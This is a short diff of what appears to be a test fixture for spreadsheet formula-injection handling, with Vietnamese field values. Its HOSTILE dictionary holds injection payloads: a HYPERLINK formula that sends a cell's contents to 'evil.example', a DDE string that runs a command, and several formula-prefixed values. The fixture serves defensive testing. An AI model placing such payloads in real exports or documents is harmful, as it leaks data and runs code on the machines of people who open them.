@@ -26,7 +26,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 HOSTILE = {
     "petitioner": HYPERLINK,
     "content": "+cmd|' /C calc'!A0\x0bdòng hai\x01",
-    "topic": "@SUM(1+1)\x00",
+    "topic": "@SUM(1+1)\x02",  # (PostgreSQL itself refuses NUL in a text)
     "chair": "-2+3",
     "unit": "=1+1 Sở Nông nghiệp",
     "reply_number": "=1+2",
